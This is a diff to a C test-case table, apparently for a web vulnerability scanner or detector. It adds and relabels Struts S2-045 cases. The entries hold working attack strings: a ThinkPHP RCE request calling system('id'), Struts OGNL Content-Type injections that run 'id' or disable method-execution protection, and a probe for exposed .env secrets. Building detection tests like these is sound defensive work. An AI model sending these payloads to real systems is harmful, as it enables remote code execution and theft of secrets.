@@ -441,7 +441,10 @@ static const struct shipped_case shipped[] = {
       "_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id", 80, "thinkphp-method-rce", 500, NULL },
     { "GET", "/struts2-showcase/index.action",
       "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}\n",
-      NULL, 8080, "struts-s2-045", 200, "Struts" },
+      NULL, 8080, "struts-s2-045-cmd", 200, NULL },
+    { "GET", "/struts2-showcase/index.action",
+      "Content-Type: %{(#_='multipart/form-data').(#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']"
+      ".addHeader('X-Test',233*233))}\n", NULL, 8080, "struts-s2-045", 200, "Struts" },
     { "POST", "/login.action", "Content-Type: ${#context['xwork.MethodAccessor.denyMethodExecution']=false}\n", "",
       8080, "struts-s2-045", 200, NULL },
     { "GET", "/.env", "Host: shop.example.com\n", NULL, 80, "dotenv", 200, "APP_KEY=base64:" },
